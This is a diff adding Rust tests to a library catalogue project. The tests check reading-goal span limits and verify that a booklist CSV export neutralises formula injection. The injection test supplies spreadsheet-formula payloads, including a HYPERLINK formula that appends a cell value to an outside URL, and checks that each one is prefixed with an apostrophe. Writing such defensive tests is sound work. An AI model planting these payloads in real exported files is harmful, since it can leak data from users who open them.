@@ -227,3 +227,112 @@ fn chikushino_reading_goal_progress_and_chart_r_r2() {
         [Reason::NotOffered]
     );
 }
+
+#[test]
+fn hostile_patron_work_bounded_item_12_reading_goal_span() {
+    let mut w = World::new("chikushino", "2026-06-01");
+    let p = w.patron();
+    let span_error = |e: Error| match e {
+        Error::InvalidInput { field, reason } => (field, reason),
+        other => panic!("expected InvalidInput, got {other}"),
+    };
+    let (field, reason) = span_error(w.lib.set_reading_goal(p, day("1900-01-01"), day("9999-12-31"), 5).unwrap_err());
+    assert_eq!(field, "ends_on");
+    assert!(reason.contains("at most 366"), "{reason}");
+    let (field, _) = span_error(w.lib.set_reading_goal(p, day("2026-06-01"), day("2027-06-02"), 5).unwrap_err());
+    assert_eq!(field, "ends_on", "367 days is one too many");
+    assert!(w.lib.reading_goals(p).unwrap().is_empty(), "nothing was stored");
+    let goal = w.lib.set_reading_goal(p, day("2026-06-01"), day("2027-06-01"), 5).unwrap();
+    let svg = goal_chart_svg(&w.lib.reading_goal_progress(p, goal, Granularity::Week).unwrap());
+    assert!(svg.len() < 20_000, "a year's chart stays small: {} bytes", svg.len());
+}
+
+/// `s` as Python's `json.dumps(..., ensure_ascii=False)` writes a string.
+fn json_string(s: &str) -> String {
+    let mut out = String::from("\"");
+    for c in s.chars() {
+        match c {
+            '"' => out.push_str("\\\""),
+            '\\' => out.push_str("\\\\"),
+            '\n' => out.push_str("\\n"),
+            '\r' => out.push_str("\\r"),
+            '\t' => out.push_str("\\t"),
+            c if (c as u32) < 0x20 => out.push_str(&format!("\\u{:04x}", c as u32)),
+            c => out.push(c),
+        }
+    }
+    out.push('"');
+    out
+}
+
+/// The CSV file read back by Python's `csv` module, as JSON; `None` without `python3`.
+fn python_reads_csv(bytes: &[u8]) -> Option<String> {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("list.csv");
+    std::fs::write(&path, bytes).unwrap();
+    let script = "import csv, json, sys\n\
+                  with open(sys.argv[1], encoding='utf-8-sig', newline='') as f:\n    \
+                  print(json.dumps(list(csv.reader(f)), ensure_ascii=False))";
+    let out = match std::process::Command::new("python3")
+        .args(["-c", script])
+        .arg(&path)
+        .env("PYTHONIOENCODING", "utf-8")
+        .output()
+    {
+        Ok(out) => out,
+        Err(e) => {
+            eprintln!("note: python3 is not available ({e}); the Python read-back is skipped");
+            return None;
+        }
+    };
+    assert!(out.status.success(), "python3 failed: {}", String::from_utf8_lossy(&out.stderr));
+    Some(String::from_utf8(out.stdout).unwrap().trim_end().to_owned())
+}
+
+#[test]
+fn hostile_csv_injection_item_13() {
+    use bunko::shelves::{BooklistEntry, booklist_csv};
+    let mut w = World::new("fukushima", "2026-06-01");
+    let p = w.patron();
+    let formula = w
+        .lib
+        .add_title(NewTitle {
+            author: "+81-3-0000".into(),
+            publisher: "@SUM(A1:A9)".into(),
+            ..NewTitle::new("=HYPERLINK(\"https://example.com/?\"&A1,\"click\")")
+        })
+        .unwrap();
+    let list = w.lib.add_to_booklist(p, ListTarget::New("式".into()), formula, "-2+3").unwrap();
+    let plain = w.lib.export_booklist_csv(p, list, true).unwrap();
+    let text = String::from_utf8(plain[3..].to_vec()).unwrap();
+    insta::assert_snapshot!(text.replace("\r\n", "⏎\n"));
+
+    // Tab and CR cannot begin a stored field (they are trimmed), but the pure function guards them too.
+    let mut entry = w.lib.booklist_entries(p, list).unwrap().remove(0);
+    entry.memo = "\t=1+1".into();
+    let tab = BooklistEntry { title_text: "\r=2".into(), ..entry };
+    let crafted = booklist_csv(&[tab], false).unwrap();
+
+    let row = |cells: &[&str]| format!("[{}]", cells.iter().map(|c| json_string(c)).collect::<Vec<_>>().join(", "));
+    let header = row(&["書名", "著者", "出版者", "出版日", "ISBN", "メモ", "登録日"]);
+    let expected = format!(
+        "[{header}, {}]",
+        row(&[
+            "'=HYPERLINK(\"https://example.com/?\"&A1,\"click\")",
+            "'+81-3-0000",
+            "'@SUM(A1:A9)",
+            "",
+            "",
+            "'-2+3",
+            "2026-06-01"
+        ])
+    );
+    let expected_crafted =
+        format!("[{header}, {}]", row(&["'\r=2", "'+81-3-0000", "'@SUM(A1:A9)", "", "", "'\t=1+1", "2026-06-01"]));
+    if let Some(json) = python_reads_csv(&plain) {
+        assert_eq!(json, expected);
+    }
+    if let Some(json) = python_reads_csv(&crafted) {
+        assert_eq!(json, expected_crafted);
+    }
+}
